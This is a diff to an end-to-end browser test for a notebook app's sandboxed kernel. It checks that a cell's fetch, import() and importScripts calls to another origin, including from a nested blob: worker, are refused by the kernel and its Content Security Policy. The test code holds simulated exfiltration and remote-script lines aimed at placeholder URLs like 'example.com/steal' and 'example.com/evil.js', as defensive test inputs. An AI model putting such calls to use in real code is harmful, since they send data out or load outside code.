@@ -35,25 +35,35 @@ test('CSP: a cell\'s fetch, import() and importScripts to another origin are ref
   const mark = marker('csp_fetch');
   await editBeforeAttack(page, mark, 'en');
   const cell = codeCell(page, 1);
-  // the cell listens for the worker's own violation reports, so the test proves the refusal is the
-  // policy's (this machine has no network: a plain fetch would fail anyway)
+  // Two walls. The kernel refuses another origin itself, with a message (fetch, importScripts); the
+  // policy is the real wall under it: import() meets it directly, and so does a fetch from a worker
+  // the cell makes (a blob: worker inherits the kernel's policy and has no friendly wrapper). The
+  // violation reports prove the refusal is the policy's: this machine has no network, so a plain
+  // fetch would fail anyway.
   await setSource(page, cell, [
     "const seen = [];",
     "self.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective + ' ' + e.blockedURI));",
     "const tries = [];",
-    "try { await fetch('https://example.com/steal?d=1'); tries.push('fetch ok'); } catch (e) { tries.push('fetch ' + e.name); }",
+    "try { await fetch('https://example.com/steal?d=1'); tries.push('fetch ok'); } catch (e) { tries.push('fetch ' + e.name); seen.push(e.message); }",
     "try { await import('https://example.com/evil.js'); tries.push('import ok'); } catch (e) { tries.push('import ' + e.name); }",
     "try { importScripts('https://example.com/evil.js'); tries.push('importScripts ok'); } catch (e) { tries.push('importScripts ' + e.name); }",
+    "const src = \"self.addEventListener('securitypolicyviolation', (e) => postMessage('nested ' + e.effectiveDirective + ' ' + e.blockedURI)); fetch('https://example.com/steal?d=2').then(() => postMessage('nested fetch ok'), (e) => postMessage('nested fetch ' + e.name));\";",
+    "const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));",
+    "const nested = [];",
+    "await new Promise((r) => { w.onmessage = (e) => { nested.push(e.data); if (nested.length === 2) r(); }; setTimeout(r, 5000); });",
+    "w.terminate();",
     "await new Promise((r) => setTimeout(r, 200));",
     "show.text(tries.join(' | '));",
     "show.text(seen.join(' | '));",
+    "show.text(nested.sort().join(' | '));",
   ].join('\n'));
   await cell.getByTestId('run-cell').click();
   await expect(cell).toHaveAttribute('data-status', 'idle', { timeout: 60_000 });
   const texts = cell.getByTestId('out-text');
-  await expect(texts.first()).toHaveText('fetch TypeError | import TypeError | importScripts TypeError');
-  await expect(texts.nth(1)).toContainText("connect-src https://example.com/steal?d=1");
-  await expect(texts.nth(1)).toContainText('script-src-elem https://example.com/evil.js');
+  await expect(texts.first()).toHaveText('fetch SecurityError | import TypeError | importScripts SecurityError');
+  await expect(texts.nth(1)).toContainText('https://example.com/steal?d=1 was refused'); // the kernel's own message
+  await expect(texts.nth(1)).toContainText('script-src-elem https://example.com/evil.js'); // import(): the policy
+  await expect(texts.nth(2)).toHaveText('nested connect-src https://example.com/steal?d=2 | nested fetch TypeError'); // the policy, under the wrapper
   // the kernel worker's script carries its own policy: the page's, plus eval for running cells
   expect(kernelCsp[0]).toBe(KERNEL_CSP);
   expect(KERNEL_CSP).toContain("connect-src 'self'");
